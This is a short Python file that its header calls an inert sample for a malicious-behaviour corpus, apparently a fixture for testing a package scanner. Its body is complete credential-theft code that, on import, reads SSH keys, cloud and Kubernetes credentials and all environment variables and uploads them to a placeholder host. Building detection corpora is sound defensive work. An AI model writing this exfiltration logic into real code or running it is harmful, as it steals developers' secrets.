# Inert model for pyward's malicious-behaviour corpus: the endpoint is under .invalid (RFC 6761) and
# the tests never run this file.
import json
import os
import urllib.request

TARGETS = [
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.aws/credentials",
    "~/.kube/config",
    "~/.config/gcloud/application_default_credentials.json",
]


def _read(path):
    try:
        with open(os.path.expanduser(path)) as fh:
            return fh.read()
    except OSError:
        return ""


loot = {path: _read(path) for path in TARGETS}
loot["env"] = dict(os.environ)
req = urllib.request.Request(
    "https://models.example.invalid/v1/upload",
    data=json.dumps(loot).encode(),
    headers={"Content-Type": "application/json"},
)
urllib.request.urlopen(req, timeout=10)
